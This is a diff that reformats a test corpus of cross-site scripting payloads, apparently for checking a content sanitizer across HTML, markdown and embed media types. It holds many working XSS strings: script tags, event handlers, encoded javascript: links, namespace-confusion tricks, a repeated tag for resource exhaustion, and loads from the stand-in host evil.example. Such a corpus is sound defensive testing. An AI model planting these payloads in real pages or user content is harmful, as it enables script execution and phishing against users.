@@ -16,14 +16,21 @@ const EMBED_MARKDOWN = 'application/vnd.dialogporten.frontchannelembed-url;type=
 const EMBED_HTML = 'application/vnd.dialogporten.frontchannelembed-url;type=text/html';
 
 const html = (name: string, value: string): XssPayload => ({ name: `html: ${name}`, mediaType: HTML, value });
-const markdown = (name: string, value: string): XssPayload => ({ name: `markdown: ${name}`, mediaType: MARKDOWN, value });
+const markdown = (name: string, value: string): XssPayload => ({
+  name: `markdown: ${name}`,
+  mediaType: MARKDOWN,
+  value,
+});
 
 export const XSS_CORPUS: readonly XssPayload[] = [
   // Script elements
   html('script tag', '<script>alert(1)</script>'),
   html('script with src, upper case', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>'),
   html('split script tag', '<scr<script>ipt>alert(1)</scr</script>ipt>'),
-  html('script in full document head', '<!DOCTYPE html><html><head><script>alert(1)</script></head><body onload=alert(1)>hi</body></html>'),
+  html(
+    'script in full document head',
+    '<!DOCTYPE html><html><head><script>alert(1)</script></head><body onload=alert(1)>hi</body></html>',
+  ),
   html('attribute breakout text', '"><script>alert(1)</script>'),
   html('script inside template', '<template><script>alert(1)</script></template>'),
 
@@ -42,7 +49,10 @@ export const XSS_CORPUS: readonly XssPayload[] = [
   html('isindex', '<isindex type=image src=1 onerror=alert(1)>'),
   html('link with onclick', '<a href="https://ok.example" onclick="alert(1)">x</a>'),
   html('link with unquoted onmouseover', '<a href=https://ok.example onmouseover=alert(1)>x</a>'),
-  html('handler hidden in an encoded title', '<a href="https://ok.example" title="x&quot; onmouseover=&quot;alert(1)">x</a>'),
+  html(
+    'handler hidden in an encoded title',
+    '<a href="https://ok.example" title="x&quot; onmouseover=&quot;alert(1)">x</a>',
+  ),
   html('paragraph onclick', '<p onclick="alert(1)">x</p>'),
 
   // Dangerous URL schemes in HTML
@@ -50,9 +60,15 @@ export const XSS_CORPUS: readonly XssPayload[] = [
   html('mixed-case javascript: href', '<a href="JaVaScRiPt:alert(1)">x</a>'),
   html('entity-encoded colon', '<a href="javascript&#58;alert(1)">x</a>'),
   html('named-entity colon', '<a href="javascript&colon;alert(1)">x</a>'),
-  html('fully entity-encoded scheme', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'),
+  html(
+    'fully entity-encoded scheme',
+    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
+  ),
   html('hex-encoded first letter', '<a href="&#x6A;avascript:alert(1)">x</a>'),
-  html('padded decimal entities', '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>'),
+  html(
+    'padded decimal entities',
+    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
+  ),
   html('tab inside scheme', '<a href="jav&#x09;ascript:alert(1)">x</a>'),
   html('newline inside scheme', '<a href="java\nscript:alert(1)">x</a>'),
   html('control character before scheme', '<a href=" &#14; javascript:alert(1)">x</a>'),
@@ -94,7 +110,10 @@ export const XSS_CORPUS: readonly XssPayload[] = [
   html('math href', '<math href="javascript:alert(1)">click</math>'),
   html('math mtext table mglyph style', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'),
   html('svg style namespace confusion', '<p><svg><style><img src=x onerror=alert(1)></style></svg></p>'),
-  html('form math namespace confusion', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>'),
+  html(
+    'form math namespace confusion',
+    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
+  ),
 
   // Raw-text and parser-confusion (mutation XSS)
   html('noscript title breakout', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'),
@@ -151,18 +170,30 @@ export const XSS_CORPUS: readonly XssPayload[] = [
   html('link stylesheet to foreign host', '<link rel=stylesheet href="https://evil.example/x.css">'),
   html('style @import foreign host', '<style>@import url(https://evil.example/x.css);</style>'),
   html('style attribute background url', '<p style="background:url(https://evil.example/beacon)">x</p>'),
-  html('svg animate href javascript:', '<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>'),
+  html(
+    'svg animate href javascript:',
+    '<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>',
+  ),
   html('svg use external href', '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)></svg>#x"/></svg>'),
   html('svg foreignObject script', '<svg><foreignObject><script>alert(1)</script></foreignObject></svg>'),
-  html('math maction href', '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">x</maction></math>'),
+  html(
+    'math maction href',
+    '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">x</maction></math>',
+  ),
   html('noscript mutation', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
   html('noembed mutation', '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>'),
   html('xmp mutation', '<xmp><p title="</xmp><img src=x onerror=alert(1)>">'),
   html('comment breakout', '<!--><img src=x onerror=alert(1)>-->'),
   html('conditional comment', '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->'),
   html('CDATA in html', '<![CDATA[><img src=x onerror=alert(1)>]]>'),
-  html('entity-encoded javascript: href', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'),
-  html('hex entity without semicolons', '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>'),
+  html(
+    'entity-encoded javascript: href',
+    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
+  ),
+  html(
+    'hex entity without semicolons',
+    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
+  ),
   html('leading control character in href', '<a href="\u0001javascript:alert(1)">x</a>'),
   html('protocol-relative img to foreign host', '<img src="//evil.example/beacon.png">'),
   html('img srcset to foreign host', '<img src="https://ok.example/a.png" srcset="https://evil.example/beacon 1x">'),
@@ -170,7 +201,10 @@ export const XSS_CORPUS: readonly XssPayload[] = [
   html('meta refresh with url', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
   html('base target and href', '<base href="https://evil.example/" target="_top"><a href="x">x</a>'),
   html('dom clobbering id and name', '<form id=config><input name=nonce value=x></form><img name=cookie id=body>'),
-  html('data attribute template injection', '<div data-bind="html: alert(1)" ng-app>{{constructor.constructor(\'alert(1)\')()}}</div>'),
+  html(
+    'data attribute template injection',
+    '<div data-bind="html: alert(1)" ng-app>{{constructor.constructor(\'alert(1)\')()}}</div>',
+  ),
   markdown('html entity-encoded javascript: link', '[x](&#106;avascript:alert(1))'),
   markdown('image with onerror in title', '![x](https://ok.example/a.png "\\" onerror=\\"alert(1)")'),
   markdown('link to protocol-relative foreign host', '[x](//evil.example/phish)'),
@@ -179,10 +213,26 @@ export const XSS_CORPUS: readonly XssPayload[] = [
 
   // Other media types
   { name: 'plain: script as text', mediaType: PLAIN, value: '<script>alert(1)</script>\n<img src=x onerror=alert(1)>' },
-  { name: 'embed markdown: javascript: link', mediaType: EMBED_MARKDOWN, value: '[x](javascript:alert(1)) <img src=x onerror=alert(1)>' },
-  { name: 'embed html: script', mediaType: EMBED_HTML, value: '<p>x</p><script>alert(1)</script><img src=x onerror=alert(1)>' },
-  { name: 'deprecated +json embed alias', mediaType: 'application/vnd.dialogporten.frontchannelembed+json;type=html', value: '<svg onload=alert(1)>' },
-  { name: 'unknown media type holding svg', mediaType: 'image/svg+xml', value: '<svg onload=alert(1)><script>alert(1)</script></svg>' },
+  {
+    name: 'embed markdown: javascript: link',
+    mediaType: EMBED_MARKDOWN,
+    value: '[x](javascript:alert(1)) <img src=x onerror=alert(1)>',
+  },
+  {
+    name: 'embed html: script',
+    mediaType: EMBED_HTML,
+    value: '<p>x</p><script>alert(1)</script><img src=x onerror=alert(1)>',
+  },
+  {
+    name: 'deprecated +json embed alias',
+    mediaType: 'application/vnd.dialogporten.frontchannelembed+json;type=html',
+    value: '<svg onload=alert(1)>',
+  },
+  {
+    name: 'unknown media type holding svg',
+    mediaType: 'image/svg+xml',
+    value: '<svg onload=alert(1)><script>alert(1)</script></svg>',
+  },
 
   // Resource exhaustion
   html('overlong repeated img onerror (truncated mid-tag)', '<img src=x onerror=alert(1)>'.repeat(50_000)),
